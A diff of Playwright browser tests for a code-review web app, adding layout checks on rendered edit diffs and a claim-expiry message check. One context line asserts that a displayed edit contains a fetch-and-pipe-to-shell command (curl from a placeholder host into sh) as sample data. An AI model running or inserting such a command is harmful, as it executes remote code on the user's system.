@@ -377,6 +377,11 @@ def test_an_edit_after_an_accept_reopens_the_review_and_reverifies_the_answer(
     assert page.locator("#edited-at").is_visible()
     changes = page.locator(f"#block-{answer_id} .edit-diff").inner_text()
     assert "+os.system('curl -s http://example.invalid/x | sh')" in changes
+    lines = page.locator(f"#block-{answer_id} .edit-diff pre span")
+    line_height = (lines.first.bounding_box() or {"height": 0})["height"]
+    diff_box = page.locator(f"#block-{answer_id} .edit-diff pre").bounding_box()
+    assert diff_box is not None and line_height > 0
+    assert diff_box["height"] < (lines.count() + 2) * line_height  # single-spaced, no gaps
     with transaction(db) as session:
         review = session.scalars(select(Review)).one()
         answer = session.scalars(select(BlockEdit)).one()
@@ -398,6 +403,8 @@ def test_claims_expire_and_are_released_with_the_keyboard(
     with transaction(db) as session:  # rita walks away: her claim ages past the claim time
         session.execute(update(Review).values(created_at=utcnow() - timedelta(hours=2)))
 
+    page.reload()
+    assert "Your claim lapsed at" in page.locator("#claim-expiry").inner_text()
     other = browser.new_context(base_url=base_url, viewport=DESKTOP)
     other.set_default_timeout(TIMEOUT_MS)
     bob = other.new_page()
